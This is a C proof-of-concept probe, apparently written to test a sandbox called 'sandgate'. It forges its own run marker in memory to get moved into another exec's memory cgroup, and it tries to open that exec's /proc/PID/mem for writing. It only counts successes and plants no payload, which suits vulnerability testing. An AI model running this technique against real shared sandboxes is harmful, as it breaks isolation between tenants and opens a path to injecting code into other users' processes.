/*
 * markforge SECONDS VICTIMS: an exec of the sandbox that takes another
 * exec's place in its memory cgroup. Under runc each exec's command waits
 * (`sandgate-probe join RUN -- CMD`) until the host moves it into
 * sandgate-cmds/RUN. This process watches /proc for the join of any other
 * run (its argv names the run, and every process of the sandbox user can
 * read it), writes that run into its own SANDGATE_RUN marker in place (the
 * environment /proc/self/environ shows is this process's own memory), and
 * checks whether the host moved it into that run's memory cgroup. Its own
 * marker goes back after each try (so the victim's end does not take it).
 * It also tries to open the waiting join's memory for writing (a payload
 * written there would run beside the session's init, in the container's
 * memory cgroup, before the move; join_mem tells an open of the join's
 * memory from one that came after it ran the victim's command). Stops
 * after VICTIMS joins seen or SECONDS; prints "seen N moved M writable
 * W", "late L" (opens that held the command's memory) and one line per
 * run it landed in.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define KEY	"SANDGATE_RUN="

extern char	**environ;

static ssize_t
slurp(const char *path, char *buf, size_t size)
{
	ssize_t	n;
	int	fd;

	if ((fd = open(path, O_RDONLY)) == -1)
		return -1;
	n = read(fd, buf, size - 1);
	close(fd);
	if (n >= 0)
		buf[n] = '\0';
	return n;
}

static double
now(void)
{
	struct timespec	ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* The run of another exec's join now in /proc, into run; its pid, or 0. */
static int
find_join(const char *own, const char *last, size_t len, char *run)
{
	char		 path[300], buf[512], *a1, *a2;
	struct dirent	*de;
	DIR		*d;
	ssize_t		 n;
	int		 found = 0;

	if ((d = opendir("/proc")) == NULL)
		return 0;
	while (!found && (de = readdir(d)) != NULL) {
		if (de->d_name[0] < '1' || de->d_name[0] > '9')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/cmdline", de->d_name);
		if ((n = slurp(path, buf, sizeof(buf))) <= 0)
			continue;
		a1 = buf + strlen(buf) + 1;
		if (a1 >= buf + n || strcmp(a1, "join") != 0)
			continue;
		a2 = a1 + strlen(a1) + 1;
		if (a2 >= buf + n || strlen(a2) != len ||
		    strcmp(a2, own) == 0 || strcmp(a2, last) == 0)
			continue;
		memcpy(run, a2, len + 1);
		found = atoi(de->d_name);
	}
	closedir(d);
	return found;
}

/* The argv area of pid (fields 48-49 of its stat): 0 when not shown. */
static int
arg_area(int pid, unsigned long long *start, unsigned long long *end)
{
	char	 path[64], buf[1024], *p;
	int	 i;

	snprintf(path, sizeof(path), "/proc/%d/stat", pid);
	if (slurp(path, buf, sizeof(buf)) <= 0 ||
	    (p = strrchr(buf, ')')) == NULL)
		return 0;
	for (i = 2; i < 48 && p != NULL; i++)	/* p: before field i + 1 */
		p = strchr(p + 1, ' ');
	return p != NULL && sscanf(p + 1, "%llu %llu", start, end) == 2 &&
	    *end > *start;
}

/* 1 when the memory behind fd holds "join\0RUN\0" in [start, end). */
static int
holds_join(int fd, const char *run, unsigned long long start,
    unsigned long long end)
{
	char	 buf[512], want[160];
	size_t	 wl, i;
	ssize_t	 n;

	wl = (size_t)snprintf(want, sizeof(want), "join%c%s", '\0', run) + 1;
	if (end - start > sizeof(buf))
		end = start + sizeof(buf);
	if ((n = pread(fd, buf, end - start, (off_t)start)) <= 0)
		return 0;
	for (i = 0; i + wl <= (size_t)n; i++)
		if (memcmp(buf + i, want, wl) == 0)
			return 1;
	return 0;
}

/*
 * Open the join's memory for writing: 1 when that worked and the
 * descriptor holds the join's own memory (its argv, read through it,
 * still names the join of run), 2 when it opened but holds another
 * program's (the join had already executed the victim's command, which
 * is dumpable as any command and runs in the victim's cgroup: not the
 * window this row is about), 0 when it did not open. /proc/PID/mem is
 * bound to the memory the process had at open(2), so the argv read
 * through it says whose memory a writer would have reached. The argv's
 * place is read before the open (the join's, if /proc shows it) and
 * after (once the open worked, /proc shows it), so a join that executes
 * its command just after either read is still found.
 */
static int
join_mem(int pid, const char *run)
{
	unsigned long long	 s1 = 0, e1 = 0, s2 = 0, e2 = 0;
	char			 path[64];
	int			 fd, rv;

	arg_area(pid, &s1, &e1);
	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	if ((fd = open(path, O_RDWR)) == -1)
		return 0;
	arg_area(pid, &s2, &e2);
	rv = (e1 > s1 && holds_join(fd, run, s1, e1)) ||
	    (e2 > s2 && holds_join(fd, run, s2, e2)) ? 1 : 2;
	close(fd);
	return rv;
}

/* 1 when our memory cgroup is .../run. */
static int
in_run(const char *run)
{
	char	 buf[4096], *p, *e;
	size_t	 rl = strlen(run);

	if (slurp("/proc/self/cgroup", buf, sizeof(buf)) <= 0 ||
	    (p = strstr(buf, ":memory:")) == NULL)
		return 0;
	if ((e = strchr(p, '\n')) != NULL)
		*e = '\0';
	return strlen(p) > rl && p[strlen(p) - rl - 1] == '/' &&
	    strcmp(p + strlen(p) - rl, run) == 0;
}

int
main(int argc, char **argv)
{
	char	*mark = NULL, own[128], run[128], last[128] = "";
	double	 end, t;
	size_t	 len;
	int	 i, pid, held, seen = 0, moved = 0, writable = 0, late = 0, victims;

	if (argc != 3)
		return 2;
	end = now() + atof(argv[1]);
	victims = atoi(argv[2]);
	for (i = 0; environ[i] != NULL; i++)
		if (strncmp(environ[i], KEY, strlen(KEY)) == 0)
			mark = environ[i] + strlen(KEY);
	if (mark == NULL || (len = strlen(mark)) >= sizeof(own))
		return 3;
	memcpy(own, mark, len + 1);
	while (seen < victims && now() < end) {
		if ((pid = find_join(own, last, len, run)) == 0)
			continue;
		if ((held = join_mem(pid, run)) == 1)
			writable++;
		else if (held == 2)
			late++;
		memcpy(mark, run, len);		/* the forged marker */
		memcpy(last, run, len + 1);
		seen++;
		for (t = now() + 0.3; now() < t && !in_run(run); )
			usleep(1000);
		if (in_run(run)) {
			moved++;
			printf("landed in %s\n", run);
		}
		memcpy(mark, own, len);
	}
	printf("seen %d moved %d writable %d\n", seen, moved, writable);
	printf("late %d\n", late);
	return 0;
}
